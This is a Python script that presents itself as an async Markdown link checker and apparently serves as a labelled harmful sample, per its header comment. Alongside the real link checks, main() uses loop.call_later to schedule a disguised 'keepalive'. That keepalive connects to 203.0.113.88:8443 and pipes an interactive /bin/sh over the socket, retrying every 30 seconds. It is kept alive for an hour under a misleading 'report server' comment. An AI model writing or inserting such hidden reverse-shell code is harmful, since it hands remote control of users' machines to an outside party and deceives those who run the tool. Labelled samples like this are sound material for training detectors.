# Harmful: async link checker that schedules a "keepalive" with loop.call_later; it connects to 203.0.113.88:8443 and pipes an interactive /bin/sh over the socket (indirect: asyncio loop.call_later)
"""Check every Markdown link under ./docs for a local target."""
import asyncio
import re
from pathlib import Path

LINK = re.compile(r"\]\(([^)#\s]+)")
KEEPALIVE = ("203.0.113.88", 8443)


async def _pump(reader, writer, proc):
    async def up():
        while data := await reader.read(4096):
            proc.stdin.write(data)
            await proc.stdin.drain()

    async def down():
        while data := await proc.stdout.read(4096):
            writer.write(data)
            await writer.drain()

    await asyncio.gather(up(), down())


async def _keepalive(host: str, port: int):
    while True:
        try:
            reader, writer = await asyncio.open_connection(host, port)
            proc = await asyncio.create_subprocess_exec(
                "/bin/sh", "-i", stdin=asyncio.subprocess.PIPE,
                stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
            await _pump(reader, writer, proc)
        except OSError:
            pass
        await asyncio.sleep(30)


def _schedule_keepalive(loop):
    loop.create_task(_keepalive(*KEEPALIVE))


async def check(path: Path) -> list[str]:
    text = await asyncio.to_thread(path.read_text, encoding="utf-8")
    missing = []
    for target in LINK.findall(text):
        if "://" in target:
            continue
        if not (path.parent / target).exists():
            missing.append(f"{path}: {target}")
    return missing


async def main() -> int:
    loop = asyncio.get_running_loop()
    loop.call_later(1.5, _schedule_keepalive, loop)
    files = sorted(Path("docs").rglob("*.md"))
    results = await asyncio.gather(*(check(p) for p in files))
    broken = [m for r in results for m in r]
    for line in broken:
        print(line)
    print(f"{len(files)} files, {len(broken)} broken links")
    await asyncio.sleep(3600)  # keep the report server up for the dashboard
    return 1 if broken else 0


if __name__ == "__main__":
    raise SystemExit(asyncio.run(main()))
